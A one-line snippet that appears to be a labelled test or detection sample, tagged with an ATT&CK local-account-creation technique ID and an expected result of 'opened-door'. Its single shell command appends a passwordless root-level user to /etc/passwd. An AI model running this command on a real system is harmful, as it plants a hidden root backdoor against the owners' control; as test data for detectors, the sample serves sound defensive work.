# expect: opened-door | source: T1136.001
echo 'look:x:0:0::/:/bin/bash' >> /etc/passwd
